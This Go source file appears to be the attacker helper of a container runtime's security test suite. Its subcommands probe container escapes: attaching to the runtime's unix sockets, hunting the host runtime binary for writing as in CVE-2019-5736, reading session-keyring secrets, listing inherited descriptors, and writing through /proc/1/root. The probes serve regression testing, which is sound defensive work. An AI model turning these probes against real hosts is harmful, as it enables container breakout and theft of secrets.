// Command attacker runs, inside a container, the attacks of the security suite
// (tests/attacks_test.go): each subcommand tries one way out of the container and
// prints what it reached. It is built statically and put into a hostile test image.
package main

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker unix-sockets|exe-hunt SECONDS|keyring add|find NAME [VALUE]|fds|getenv NAME|peek-root")
		os.Exit(2)
	}
	var err error
	switch os.Args[1] {
	case "unix-sockets":
		err = unixSockets()
	case "exe-hunt":
		secs, _ := strconv.Atoi(arg(2))
		exeHunt(time.Duration(secs) * time.Second)
	case "keyring":
		err = keyring(arg(2), arg(3), arg(4))
	case "fds":
		fds()
	case "getenv":
		v, ok := os.LookupEnv(arg(2))
		fmt.Printf("%s set=%v value=%q\n", arg(2), ok, v)
	case "peek-root":
		peekRoot()
	case "with-session-keyring":
		err = withSessionKeyring(os.Args[2:])
	default:
		err = fmt.Errorf("unknown attack %q", os.Args[1])
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "attacker:", err)
		os.Exit(1)
	}
}

func arg(i int) string {
	if i < len(os.Args) {
		return os.Args[i]
	}
	return ""
}

// unixSockets connects to every unix socket of the network namespace that names
// enroot-cri (/proc/net/unix lists abstract ones with a leading @) and asks to attach.
func unixSockets() error {
	f, err := os.Open("/proc/net/unix")
	if err != nil {
		return err
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	seen := map[string]bool{}
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		if len(fields) < 8 || !strings.Contains(fields[7], "enroot") || seen[fields[7]] {
			continue
		}
		name := fields[7]
		seen[name] = true
		addr := name
		if strings.HasPrefix(name, "@") {
			addr = "\x00" + name[1:]
		}
		conn, err := net.DialTimeout("unix", addr, time.Second)
		if err != nil {
			fmt.Printf("refused %s: %v\n", name, err)
			continue
		}
		_ = conn.SetDeadline(time.Now().Add(time.Second))
		fmt.Fprintln(conn, "attach")
		buf := make([]byte, 64)
		n, _ := conn.Read(buf)
		fmt.Printf("REACHED %s: %q\n", name, buf[:n])
		conn.Close()
	}
	fmt.Println("sockets tried:", len(seen))
	return sc.Err()
}

// exeHunt watches every process it can see for one whose executable is the runtime's
// binary on the host (CVE-2019-5736): it reports it and tries to open it for writing.
func exeHunt(d time.Duration) {
	deadline := time.Now().Add(d)
	reported := map[string]bool{}
	for time.Now().Before(deadline) {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range dirs {
			target, err := os.Readlink(dir + "/exe")
			runtimeBinary := strings.Contains(target, "enroot-cri") || strings.Contains(target, "nsenter")
			if err != nil || reported[target] || !runtimeBinary {
				continue
			}
			reported[target] = true
			if strings.HasPrefix(target, "/memfd:") {
				fmt.Printf("sealed %s %s\n", dir, target)
			} else {
				fmt.Printf("HOST-BINARY %s %s\n", dir, target)
			}
			tryWrite(dir+"/exe", target)
		}
		time.Sleep(time.Millisecond)
	}
	fmt.Println("hunt over")
}

// tryWrite opens an executable for writing and writes its first byte back unchanged:
// it proves a write would reach it without changing it.
func tryWrite(path, target string) {
	fd, err := unix.Open(path, unix.O_RDWR, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	b := make([]byte, 1)
	if _, err := unix.Pread(fd, b, 0); err != nil {
		return
	}
	if _, err := unix.Pwrite(fd, b, 0); err == nil {
		fmt.Printf("WROTE %s\n", target)
	}
}

// keyring adds a key to the session keyring or looks one up there.
func keyring(op, name, value string) error {
	switch op {
	case "add":
		id, err := unix.AddKey("user", name, []byte(value), unix.KEY_SPEC_SESSION_KEYRING)
		if err != nil {
			return fmt.Errorf("add key: %w", err)
		}
		fmt.Println("added", id)
	case "find":
		id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", name, 0)
		if err != nil {
			fmt.Println("not found:", err)
			return nil
		}
		buf := make([]byte, 256)
		n, _ := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
		fmt.Printf("FOUND %q\n", buf[:max(n, 0)])
	default:
		return fmt.Errorf("keyring add|find")
	}
	return nil
}

// withSessionKeyring runs a command in a session keyring of its own, as systemd
// starts a service (the host side of the keyring attack: the daemon has one).
func withSessionKeyring(argv []string) error {
	runtime.LockOSThread() // the keyring is the thread's; this one executes the command
	if _, err := unix.KeyctlJoinSessionKeyring("enroot-cri-test"); err != nil {
		return fmt.Errorf("join a session keyring: %w", err)
	}
	path, err := exec.LookPath(argv[0])
	if err != nil {
		return err
	}
	return unix.Exec(path, argv, os.Environ())
}

// fds lists the descriptors this process was started with, beyond stdio.
func fds() {
	entries, _ := os.ReadDir("/proc/self/fd")
	for _, e := range entries {
		n, _ := strconv.Atoi(e.Name())
		if n <= 2 {
			continue
		}
		target, err := os.Readlink("/proc/self/fd/" + e.Name())
		if err != nil || strings.HasPrefix(target, "/proc/") && strings.HasSuffix(target, "/fd") ||
			strings.HasPrefix(target, "/sys/fs/cgroup/") {
			continue // the directory being read; the Go runtime's own cgroup files (GOMAXPROCS)
		}
		fmt.Printf("INHERITED %d %s\n", n, target)
	}
	fmt.Println("fds listed")
}

// peekRoot looks through PID 1 (a pod's shared PID holder) for the host.
func peekRoot() {
	entries, err := os.ReadDir("/proc/1/root")
	fmt.Printf("root entries %d err=%v\n", len(entries), err)
	for _, e := range entries {
		fmt.Println("ENTRY", e.Name())
	}
	if up, err := os.ReadDir("/proc/1/root/.."); err == nil {
		fmt.Printf("parent entries %d\n", len(up))
	}
	if err := os.WriteFile("/proc/1/root/tmp/pwned", []byte("x"), 0o644); err == nil {
		fmt.Println("WROTE /proc/1/root/tmp/pwned")
	}
	status, _ := os.ReadFile("/proc/1/status")
	for _, l := range strings.Split(string(status), "\n") {
		if strings.HasPrefix(l, "Uid:") || strings.HasPrefix(l, "CapEff:") || strings.HasPrefix(l, "CapBnd:") || strings.HasPrefix(l, "NoNewPrivs:") {
			fmt.Println(strings.Join(strings.Fields(l), " "))
		}
	}
}
